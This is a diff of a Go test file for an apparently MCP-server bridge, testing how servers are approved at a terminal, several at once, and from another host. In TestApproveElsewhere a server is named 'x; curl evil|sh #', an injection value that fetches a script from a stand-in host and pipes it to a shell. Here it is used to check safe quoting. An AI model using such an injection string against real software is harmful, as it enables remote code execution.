@@ -4,11 +4,13 @@ import (
 	"bytes"
 	"errors"
 	"io"
+	"log/slog"
 	"os"
 	"path/filepath"
 	"strings"
 	"testing"
 
+	"github.com/mcp-bridge/mcp-bridge/bridge/approvals"
 	"github.com/mcp-bridge/mcp-bridge/bridge/elicit"
 	"github.com/mcp-bridge/mcp-bridge/cmd/mcp-bridge/terminal"
 	"github.com/mcp-bridge/mcp-bridge/discovery"
@@ -55,7 +57,8 @@ func TestApproveAtTheTerminal(t *testing.T) {
 			var stdout, stderr bytes.Buffer
 			a := &app{stdin: strings.NewReader("y\n"), stdout: terminal.New(&stdout), stderr: terminal.New(&stderr),
 				openTerminal: func() (io.ReadWriteCloser, error) { return screen, tt.noTerminal }}
-			err := a.approve(discovery.Catalog{Servers: []discovery.Server{s}}, "evil", tt.yes)
+			kept := approvals.New(approvalsConfig(slog.New(slog.DiscardHandler)))
+			err := a.approve(kept, discovery.Catalog{Servers: []discovery.Server{s}}, []string{"evil"}, tt.yes)
 			if (err == nil) != tt.approved || tt.says != "" && (err == nil || err.Error() != tt.says) {
 				t.Errorf("got %v", err)
 			}
@@ -79,23 +82,54 @@ func TestApproveAtTheTerminal(t *testing.T) {
 	}
 }
 
-// TestApproveElsewhere: a yes reaches a bridge whose host passes other variables on than the
-// terminal has, and the server's name is quoted in the command to type.
-func TestApproveElsewhere(t *testing.T) {
-	home, name := t.TempDir(), "x; curl evil|sh #"
-	vars := append(inHome(home), "XDG_STATE_HOME="+t.TempDir())
-	theirs := append(vars, "XDG_RUNTIME_DIR="+t.TempDir(), "TMPDIR="+t.TempDir())
-	f := follow(t, filepath.Join(home, ".cursor", "mcp.json"), map[string]entry{"first": {Command: "one"}},
-		theirs...)
-	f.write(t, map[string]entry{"first": {Command: "one"}, name: {Command: "two"}})
-	f.says(t, `not_approved="[`+name+`]"`)
-	cmd := command(t, nil, "servers", "approve", name, "--yes")
-	cmd.Dir, cmd.Env = home, append(cmd.Env, append(vars, "XDG_RUNTIME_DIR=", "TMPDIR=")...)
-	if out, err := cmd.CombinedOutput(); err != nil || !strings.Contains(string(out),
-		"that run and know it now: 1") {
-		t.Fatalf("%v: %s", err, out)
+// TestApproveSeveral: each is shown and asked about, whatever was said of the one before; where one
+// isn't there, nothing is asked.
+func TestApproveSeveral(t *testing.T) {
+	t.Setenv("XDG_STATE_HOME", t.TempDir())
+	t.Setenv("XDG_RUNTIME_DIR", t.TempDir())
+	var c discovery.Catalog
+	for _, name := range []string{"a", "b", "c"} {
+		c.Servers = append(c.Servers, discovery.Server{Name: name, Transport: discovery.Stdio,
+			Command: "run-" + name})
 	}
-	f.hears(t)
+	screen := &typing{Reader: strings.NewReader("y\nn\ny\n")}
+	var stdout, stderr bytes.Buffer
+	a := &app{stdout: terminal.New(&stdout), stderr: terminal.New(&stderr),
+		openTerminal: func() (io.ReadWriteCloser, error) { return screen, nil }}
+	kept := approvals.New(approvalsConfig(slog.New(slog.DiscardHandler)))
+	if err := a.approve(kept, c, []string{"a", "no", "b"}, false); !errors.As(err, new(usageError)) ||
+		screen.String() != "" {
+		t.Errorf("got %v and asked %s", err, screen)
+	}
+	if err := a.approve(kept, c, []string{"a", "b", "c"}, false); !errors.As(err, new(exitError)) {
+		t.Errorf("got %v", err)
+	}
+	holds(t, screen.String(), `Program: "run-a"`, `Program: "run-b"`, `Program: "run-c"`)
+	if out := stdout.String(); !strings.Contains(out, `"a"`) || strings.Contains(out, `"b"`) ||
+		!strings.Contains(out, `"c"`) {
+		t.Errorf("approved are %s", out)
+	}
+}
+
+// TestApproveElsewhere: a yes reaches a bridge whose host passes other variables on than the
+// terminal has, by the server's name or with all that are held.
+func TestApproveElsewhere(t *testing.T) {
+	for _, what := range []string{"x; curl evil|sh #", "--all"} {
+		home, name := t.TempDir(), "x; curl evil|sh #"
+		vars := append(inHome(home), "XDG_STATE_HOME="+t.TempDir())
+		theirs := append(vars, "XDG_RUNTIME_DIR="+t.TempDir(), "TMPDIR="+t.TempDir())
+		f := follow(t, filepath.Join(home, ".cursor", "mcp.json"), map[string]entry{"first": {Command: "one"}},
+			theirs...)
+		f.write(t, map[string]entry{"first": {Command: "one"}, name: {Command: "two"}})
+		f.says(t, `not_approved="[`+name+`]"`)
+		cmd := command(t, nil, "servers", "approve", what, "--yes")
+		cmd.Dir, cmd.Env = home, append(cmd.Env, append(vars, "XDG_RUNTIME_DIR=", "TMPDIR=")...)
+		if out, err := cmd.CombinedOutput(); err != nil || strings.Count(string(out), "approved ") != 1 ||
+			!strings.Contains(string(out), "that run and know it now: 1") {
+			t.Fatalf("%v: %s", err, out)
+		}
+		f.hears(t)
+	}
 }
 
 func TestHowToApprove(t *testing.T) {
